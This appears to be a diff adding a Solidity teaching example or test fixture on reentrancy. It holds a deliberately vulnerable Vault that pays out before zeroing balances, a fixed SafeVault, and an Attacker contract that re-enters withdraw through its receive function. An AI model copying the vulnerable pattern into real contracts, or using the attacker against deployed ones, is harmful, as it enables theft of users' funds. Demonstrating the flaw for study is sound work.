@@ -0,0 +1,73 @@
+// This vault updates a balance only after sending it to its owner, so it can be re-entered to withdraw it repeatedly.
+contract Vault {
+    mapping(address => uint) balances;
+
+    constructor() payable {}
+
+    function deposit() public payable {
+        balances[msg.sender] += msg.value;
+    }
+
+    function withdraw() public {
+        uint amount = balances[msg.sender];
+        (bool success, ) = msg.sender.call{value: amount}("");
+        require(success);
+        balances[msg.sender] = 0;
+    }
+}
+
+// This vault updates a balance before sending it to its owner, so re-entering it cannot withdraw it again.
+contract SafeVault {
+    mapping(address => uint) balances;
+
+    constructor() payable {}
+
+    function deposit() public payable {
+        balances[msg.sender] += msg.value;
+    }
+
+    function withdraw() public {
+        uint amount = balances[msg.sender];
+        balances[msg.sender] = 0;
+        (bool success, ) = msg.sender.call{value: amount}("");
+        require(success);
+    }
+}
+
+// This contract deposits into a vault and re-enters it once when it withdraws.
+contract Attacker {
+    Vault vault;
+    SafeVault safeVault;
+    bool attackingSafeVault;
+    bool reentered;
+
+    constructor(address _vault, address _safeVault) payable {
+        vault = Vault(_vault);
+        safeVault = SafeVault(_safeVault);
+    }
+
+    function attack() public {
+        attackingSafeVault = false;
+        reentered = false;
+        vault.deposit{value: 1}();
+        vault.withdraw();
+    }
+
+    function attackSafe() public {
+        attackingSafeVault = true;
+        reentered = false;
+        safeVault.deposit{value: 1}();
+        safeVault.withdraw();
+    }
+
+    receive() external payable {
+        if (!reentered) {
+            reentered = true;
+            if (attackingSafeVault) {
+                safeVault.withdraw();
+            } else {
+                vault.withdraw();
+            }
+        }
+    }
+}